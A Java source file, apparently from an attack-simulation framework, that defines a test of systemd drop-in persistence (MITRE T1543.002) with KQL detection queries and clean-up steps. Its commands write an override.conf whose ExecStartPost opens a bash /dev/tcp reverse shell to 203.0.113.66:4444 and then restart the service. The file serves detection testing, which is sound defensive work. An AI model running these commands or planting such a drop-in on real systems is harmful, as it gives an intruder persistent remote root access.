package org.conshelf.simulate;

/// A service that is there gets a further command from a drop-in.
final class SystemdDropIn {
    private static final String FOLDER = "/etc/systemd/system/rsync-mirror.service.d";
    private static final String SHELL = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "systemd-drop-in",
                            "A drop-in adds a reverse shell to a service that is there")
                    .on(SimulatedTest.Platform.LINUX)
                    .techniques("T1543.002")
                    .behaviour(
                            """
                            Instead of a new unit, a drop-in override.conf is written beside the unit of a service that the host has
                            already: its ExecStartPost opens a shell to another host over bash's /dev/tcp. Then the
                            service is restarted.
                            """)
                    .signal(
                            "override.conf comes into being in the service's .d folder, written by tee.",
                            """
                            DeviceFileEvents
                            | where ActionType == "FileCreated" and FolderPath matches regex @"\\.service\\.d/[^/]+\\.conf$"
                            | where InitiatingProcessFileName == "tee"
                            """)
                    .signal(
                            "bash with /dev/tcp in its command runs as a child of systemd.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessId == 1 and ProcessCommandLine has "/dev/tcp/"
                            """)
                    .commands(
                            """
                            mkdir -p /etc/systemd/system/rsync-mirror.service.d
                            printf '[Service]\\nExecStartPost=-/bin/bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"\\n' \\
                              | tee /etc/systemd/system/rsync-mirror.service.d/override.conf
                            systemctl daemon-reload
                            systemctl restart rsync-mirror.service
                            """)
                    .cleanUp(
                            """
                            rm -rf /etc/systemd/system/rsync-mirror.service.d
                            systemctl daemon-reload
                            systemctl restart rsync-mirror.service
                            """)
                    .plays(stage -> RootShell.onEachHost(stage, SystemdDropIn::play));

    private SystemdDropIn() {}

    private static void play(RootShell shell) {
        var host = shell.host();
        shell.types("mkdir", "-p", FOLDER);
        var tee = shell.types("tee", FOLDER + "/override.conf");
        host.created(tee, FOLDER + "/override.conf");
        shell.reloads();
        shell.types("systemctl", "restart", "rsync-mirror.service");
        host.stopped("rsync-mirror.service", "Mirror of the package archive");
        host.started("rsync-mirror.service", "Mirror of the package archive");
        host.serviceProcess("/usr/bin/rsync", "--daemon", "--no-detach");
        var bash = host.serviceProcess("/bin/bash", "-c", SHELL);
        host.run(bash, "bash", "-i");
        host.stage().pass(120_000);
        var rm = shell.types("rm", "-rf", FOLDER);
        host.deleted(rm, FOLDER + "/override.conf");
        shell.reloads();
    }
}
